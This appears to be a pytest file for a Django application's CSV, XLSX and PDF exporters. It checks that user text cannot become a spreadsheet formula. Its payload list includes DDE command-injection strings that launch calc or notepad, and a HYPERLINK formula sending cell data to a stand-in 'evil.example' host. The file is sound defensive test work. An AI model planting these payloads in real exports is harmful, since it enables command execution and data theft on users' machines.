"""What spreadsheets may do with our text: nothing. The whole corpus through every writer, opened again."""

import base64
import csv
import io
import re
import sys
import unicodedata
import zlib
from datetime import UTC, date, datetime
from decimal import Decimal
from types import SimpleNamespace
from typing import Any, ClassVar

import pytest
from django.utils import timezone, translation
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from core.exports import Column
from core.exports.about import About
from core.exports.csv_writer import write_csv
from core.exports.formula import TRIGGERS, is_risky, safe_text
from core.exports.pdf_writer import write_pdf
from core.exports.xlsx_writer import sheet_name, write_xlsx
from core.imports.columns import Column as ImportColumn
from core.imports.files import template, write_current
from core.imports.kinds import ImportKind

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20", "|", "%"]
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{before}=1+1" for before in (" ", "  ", "\u00a0", "\u200b", "\ufeff", "\x01", "\u2060", "\u202e", "\x0b", "\x85")),
    "==1+1",
    "=",
    "-",
    "=cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!D2",
    'a","=1+1',
    'a";=1+1;"',
    "Toko;=1+1;x",
    "Toko\n=1+1",
    "Toko\r\n+1",
    "Toko\t@SUM(1)",
    '"=1+1"',
    "'=1+1",
    "=1+1\x00",
    "https://example.org",
    "mailto:a@example.org",
    "<b>=1</b>",
    "{=1+1}",
    "-5000x",
]  # fmt: skip
CODES = ["00123", "1E05", "+6281234", "1-2", "007.5", "0", "TRUE", "3/4", "12345678901234567890"]
TEXTS = PAYLOADS + CODES

COLUMNS = (
    Column("code", "Kode", "identifier"),
    Column("text", "=Teks"),
    Column("status", "Status", "status", "text"),
    Column("whole", "Jumlah", "int"),
    Column("money", "Nilai", "rupiah"),
    Column("decimal", "Desimal", "decimal"),
    Column("day", "Tanggal", "date"),
    Column("moment", "Waktu", "datetime"),
)
MOMENT = datetime(2026, 8, 29, 1, 45, 12, tzinfo=UTC)
ABOUT = About("=Toko/[x]", "@2015000001 =Budi", MOMENT, (("=Cari", "=1+1"),))


def rows():
    for number, text in enumerate(TEXTS):
        yield SimpleNamespace(
            code=text, text=text, whole=-number, money=-1250 * number, decimal=Decimal("-0.5") * number,
            day=date(2026, 8, 29), moment=MOMENT,
        )  # fmt: skip


def written(write, source=None, columns=COLUMNS):
    file = io.BytesIO()
    with timezone.override("Asia/Jakarta"), translation.override("id"):
        write(rows() if source is None else source, columns, file, ABOUT)
    file.seek(0)
    return file


def cells_of_csv(delimiter=","):
    text = written(write_csv).read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def begins_a_formula(cell):
    bare = cell.lstrip("".join(chr(code) for code in range(33)) + "\u00a0\u200b\ufeff\u2060\u202e\x85")
    return cell[:1] in "\t\r\n" if cell[:1] in "\t\r\n" and cell else bare[:1] in TRIGGERS and bool(bare)


def as_lines(text):
    """XML knows one sign for the end of a line."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_csv_has_no_text_that_begins_a_formula():
    head, *lines = cells_of_csv()
    assert len(lines) == len(TEXTS)
    assert head[1] == "'=Teks"
    for line in lines:
        for cell in line[:3]:
            assert not begins_a_formula(cell), cell


def test_csv_has_none_either_when_a_reader_splits_at_another_sign():
    """An Excel with Indonesian settings splits at `;`, and does not know our quotes in the middle of a line."""
    text = written(write_csv).read().decode("utf-8-sig")
    for line in re.split(r"[\r\n]+", text):
        for cell in re.split(r"[;\t]", line):
            assert not begins_a_formula(cell) or re.fullmatch(r"-?\d.*", cell), cell


def test_csv_gives_every_other_text_back_as_it_was():
    _head, *lines = cells_of_csv()
    for text, line in zip(TEXTS, lines, strict=True):
        if text in CODES and not is_risky(text):
            assert line[:3] == [text] * 3
        assert line[1].replace("'", "") == text.replace("'", "").replace("\x00", "")


def test_csv_numbers_are_bare_numbers_and_texts_are_in_quotes():
    raw = written(write_csv).read().decode("utf-8-sig")
    _head, *lines = cells_of_csv()
    for number, line in enumerate(lines):
        assert [int(line[3]), int(line[4]), Decimal(line[5])] == [
            -number,
            -1250 * number,
            Decimal("-0.5") * number,
        ]
        assert line[6:] == ["2026-08-29", "2026-08-29 08:45:12 WIB"]
    assert '"00123","00123","00123",-' in raw
    assert '"1E05","1E05"' in raw
    assert raw.endswith("\r\n")


def test_csv_says_that_it_is_utf_8():
    assert written(write_csv).read().startswith(b"\xef\xbb\xbf")


def test_xlsx_has_no_formula_and_every_text_whole():
    book = load_workbook(written(write_xlsx))
    sheet, about = book.worksheets
    assert [cell for one in book for line in one.iter_rows() for cell in line if cell.data_type == "f"] == []
    found = list(sheet.iter_rows(min_row=2))
    assert len(found) == len(TEXTS)
    for text, line in zip(TEXTS, found, strict=True):
        for cell in line[:3]:
            assert cell.data_type == "s"
            assert as_lines(unescape(cell.value or "")) == as_lines(text.replace("\x00", ""))
            assert not is_risky(text) or cell.quotePrefix
            assert cell.hyperlink is None
    assert about["B2"].value == "=Cari: =1+1"


def test_xlsx_numbers_are_numbers_and_days_are_days():
    sheet = load_workbook(written(write_xlsx)).worksheets[0]
    for number, line in enumerate(sheet.iter_rows(min_row=2)):
        values = [cell.value for cell in line[3:]]
        assert values[:3] == [-number, -1250 * number, pytest.approx(-0.5 * number)]
        assert values[3] == datetime(2026, 8, 29)  # noqa: DTZ001  a cell knows no zones
        assert values[4] == datetime(2026, 8, 29, 8, 45, 12)  # noqa: DTZ001
        assert [cell.data_type for cell in line[3:]] == ["n", "n", "n", "d", "d"]
    assert "Rp" in sheet["E3"].number_format
    assert '"WIB"' in sheet["H3"].number_format
    assert sheet["A3"].number_format == "@"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:H{len(TEXTS) + 1}"


def test_xlsx_keeps_what_a_cell_cannot_hold_as_text():
    row = SimpleNamespace(
        code="x" * 40_000, text=None, whole=10**17, money=float("nan"), decimal=Decimal("Infinity"),
        day=date(1899, 1, 1), moment=None,
    )  # fmt: skip
    sheet = load_workbook(written(write_xlsx, [row])).worksheets[0]
    values = [cell.value for cell in sheet[2]]
    assert len(values[0]) == 32_767
    assert values[1:] == [None, None, str(10**17), "nan", "Infinity", "1899-01-01", None]


class Described(ImportKind):
    """A table to be filled in, of the corpus: what is there today goes out in it too."""

    model: ClassVar[Any] = SimpleNamespace(_meta=SimpleNamespace(verbose_name_plural="=1+1"))
    key = "code"
    columns = (
        ImportColumn(name="code", label="=Kode", required=True, example="=1+1", help="=2+2"),
        ImportColumn(name="text", label="@Teks"),
    )


def test_the_tables_of_imports_hold_no_formula_either():
    """Today's data, and the template with its comments and its example."""
    today = io.BytesIO()
    assert write_current(Described(None), list(rows()), today) == len(TEXTS)
    books = [load_workbook(today), load_workbook(io.BytesIO(template(Described)))]

    cells = [cell for book in books for sheet in book for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}
    found = [unescape(cell.value) for cell in books[0].worksheets[0]["A"][1:]]
    assert list(map(as_lines, found)) == [as_lines(text) for text in TEXTS]


@pytest.mark.parametrize("title", ["a" * 50, "[x]:*?/\\", "''", ""])
def test_a_sheet_has_a_name_that_excel_takes(title):
    assert re.fullmatch(r"[^\[\]:*?/\\]{1,31}", sheet_name(title))


def test_a_sheet_that_is_full_is_followed_by_another(monkeypatch):
    monkeypatch.setattr("core.exports.xlsx_writer.ROWS_A_SHEET", 10)
    book = load_workbook(written(write_xlsx, list(rows())[:25]))
    assert [sheet.max_row for sheet in book.worksheets[:3]] == [11, 11, 6]
    assert len(book.sheetnames) == len(set(book.sheetnames)) == 4


def test_pdf_says_which_of_how_many_pages_and_reads_no_markup():
    text = text_of_pdf(written(write_pdf, list(rows()) * 4).read())
    assert text.count("Desimal") == text.count("Halaman") > 2  # the head, on every page
    assert "<b>=1</b>" in text
    assert "Rp" in text
    assert "29 Agu 2026 08.45 WIB" in text


def test_pdf_of_nothing_is_a_page():
    assert "Tidak ada baris" in text_of_pdf(written(write_pdf, []).read())


def test_every_character_that_does_not_show_is_looked_behind():
    unseen = {"Cc", "Cf", "Zs", "Zl", "Zp"}
    missed = [
        hex(code)
        for code in range(sys.maxunicode + 1)
        if unicodedata.category(chr(code)) in unseen and not is_risky(f"{chr(code)}=1")
    ]
    assert missed == []


@pytest.mark.parametrize(
    "text", ["Toko Bandung", "A-1", "50%", "a=b", "Jl. Merdeka No. 5; RT 1", "'quoted'", ""]
)
def test_ordinary_text_stays_as_it_is(text):
    assert safe_text(text) == text


def test_a_long_run_of_blanks_costs_no_time():
    assert safe_text(" " * 200_000 + "x")


def text_of_pdf(content: bytes) -> str:
    """What the pages draw, as far as it is ASCII: those letters keep their codes in ReportLab's fonts."""
    streams = re.findall(rb"/ASCII85Decode /FlateDecode.*?stream\r?\n(.*?)endstream", content, re.DOTALL)
    pages = (zlib.decompress(base64.a85decode(one.strip().removesuffix(b"~>"))) for one in streams)
    drawn = [text for page in pages for text in re.findall(rb"\(((?:\\.|[^\\)])*)\) Tj", page)]
    return "\n".join(re.sub(rb"\\(.)", rb"\1", text).decode("latin-1") for text in drawn)
